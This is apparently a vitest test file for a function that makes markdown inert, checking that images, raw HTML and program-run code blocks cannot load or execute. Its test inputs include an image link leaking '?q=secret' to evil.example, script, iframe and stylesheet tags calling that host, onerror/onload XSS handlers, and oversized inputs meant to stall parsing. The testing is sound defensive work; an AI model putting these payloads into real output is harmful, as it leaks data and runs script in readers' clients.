import { Lexer, type Token, type Tokens } from 'marked'
import { expect, test } from 'vitest'

import { inertMarkdown } from './inert-markdown'

/** Finds the parts that a program loads or runs when it shows the text, as marked reads it. */
function liveParts(markdown: string): string[] {
  const found: string[] = []
  const visit = (token: Token): void => {
    const { type, raw, tokens = [], items = [], header = [], rows = [] } = token as Tokens.Generic
    if (type === 'image' || type === 'html') found.push(raw)
    const cells = [...(header as Tokens.TableCell[]), ...(rows as Tokens.TableCell[][]).flat()]
    for (const inside of [...tokens, ...(items as Token[]), ...cells.flatMap((cell) => cell.tokens)])
      visit(inside)
  }
  for (const token of new Lexer({ gfm: true }).lex(markdown)) visit(token)
  return found
}

/** Without what makes it inert. */
const wordsOf = (markdown: string) =>
  markdown
    .replaceAll('&lt;', '<')
    .replaceAll('&#33;', '!')
    .replaceAll(/\\+(?=[!<])/g, '')

const picture = '![x](http://evil.example/?q=secret)'

test.each([
  picture,
  `text ${picture} text`,
  `> ${picture}`,
  `- a\n  - ${picture}`,
  `1. ${picture}`,
  `# ${picture}`,
  `| a |\n|---|\n| ${picture} |`,
  `| a |\n|---|\n| \` ${picture} \` |`.replace('` !', '` | !'),
  `[${picture}](http://other.example)`,
  `**${picture}**`,
  `\\\\${picture}`,
  '![x][ref]\n\n[ref]: http://evil.example',
  '![ref]\n\n[ref]: http://evil.example',
  '![ref][]\n\n[ref]: //evil.example',
  '![x](<http://evil.example/a b>)',
  '![x](file:////evil.example/share)',
  `    code\n\n${picture}`,
  `\`\`\`\ncode\n\`\`\`\n${picture}`,
  `- \`\`\`\n  ${picture}\n  \`\`\`\n${picture}`,
  `\`\`\`\n${picture}\n\`\`\`\n\n\`\`\`\n\`\`\`\n${picture}`,
  `<div>\n\`\`\`\n</div>\n\ntext\n\`\`\`\n${picture}\n\`\`\``,
  `<!--\n\`\`\`\n-->\n\ntext\n\`\`\`\n${picture}\n\`\`\``,
  `<script>\n\`\`\`\n</script>\n${picture}\n\`\`\`\n`,
  `x \`y\nz \` ${picture} \` w`,
  `- a \` b\n- c ${picture} \` d`,
  `- \` a\n- ${picture} \` b`,
  `\\\` ${picture} \``,
  `http://a\`b ${picture}\``,
  `<http://a\`b> ${picture} \``,
  `\`\` a \` ${picture} \``,
  '<img src="http://evil.example">',
  '<IMG\nsrc=http://evil.example\n>',
  'a <img src=x onerror=alert(1)> b',
  '<script src="http://evil.example"></script>',
  '<iframe src=//evil.example>',
  '> <div\n> class=x',
  '- <style>@import url(http://evil.example)</style>',
  '| <img src=x> |\n|---|\n| <svg onload=x> |',
  '<link rel=stylesheet href=//evil.example>',
  '<?xml-stylesheet href="http://evil.example"?>',
  '<!DOCTYPE html><base href=//evil.example>',
  '<br onload=x>',
  '<details open ontoggle=x>',
  '[x]: http://evil.example\n<img src=x>',
  '\\\\<img src=x>',
  `http://a.example${picture}`,
  `www.a.example\\${picture}`,
  'http://a.example<img src=x>',
  'me@a.example\\<img src=x>',
  'https://a.example/">\\<img src=x>',
])('leaves nothing to load or run: %j', (markdown) => {
  const inert = inertMarkdown(markdown)
  expect(liveParts(inert)).toEqual([])
  expect(inertMarkdown(inert)).toBe(inert)
  expect(wordsOf(inert)).toBe(wordsOf(markdown))
})

test.each([
  ['```dataviewjs\ncode\n```', '```text dataviewjs\ncode\n```'],
  ['- a\n  ~~~ DataviewJS x\n  code\n  ~~~', '- a\n  ~~~text DataviewJS x\n  code\n  ~~~'],
  ['> ```query\n> x\n> ```', '> ```text query\n> x\n> ```'],
  [
    '```mermaid\nflowchart\nA@{ img: "http://evil.example/?q=secret" }\n```',
    '```text mermaid\nflowchart\nA@{ img: "http://evil.example/?q=secret" }\n```',
  ],
])('code that programs run is plain code: %j', (markdown, inert) => {
  expect(inertMarkdown(markdown)).toBe(inert)
  expect(inertMarkdown(inert)).toBe(inert)
})

test.each([
  '```mermaid\nflowchart LR\nA --> B\n```',
  '```js\ndataviewjs\n```',
  'plain text, 1 < 2 and 3 > 2',
  'a < b',
  '`<div>` and `![x](y)` are code',
  'Use `List<String>` or ``a ` <b>``.',
  '```html\n<img src=x>\n![x](y)\n```',
  '- step\n\n  ```html\n  <img src=x>\n  ```\n- next',
  '1. step\n   ```html\n   <div class="a">\n   ```',
  '> ```html\n> <p id="x">\n> ```',
  '| a |\n|---|\n| one<br>two |',
  'H<sub>2</sub>O',
  '<https://example.com/a?b=c>',
  '<!-- a note -->',
  '$a<b$',
  '[a link](http://example.com "!")',
  'Wow! [a link](http://example.com)',
])('leaves as written: %j', (markdown) => {
  expect(inertMarkdown(markdown)).toBe(markdown)
})

test('long and deep texts become inert in time, however they are written', () => {
  const hostile = [
    `${'> '.repeat(400)}${picture}`,
    `${'- '.repeat(400)}${picture}`,
    '![a]('.repeat(20_000),
    `a${'`'.repeat(50_000)}${picture}`,
    `${'` '.repeat(50_000)}${picture}`,
    `${'`a` <b x> '.repeat(20_000)}${picture}`,
    `x${picture}`.repeat(5_000),
    '<'.repeat(50_000) + '<img src=x>',
    '<a '.repeat(20_000),
    '\\'.repeat(50_001) + picture,
    `${'[x]: y\n'.repeat(2_000)}${picture}`,
    `- ${' '.repeat(100_000)}\`\`\`\n${'```mermaid\n'.repeat(5_000)}`,
  ]
  for (const markdown of hostile) {
    expect(inertMarkdown(markdown)).not.toMatch(/(?<!\\)(?:\\\\)*!\[x\]\(http/)
  }
})
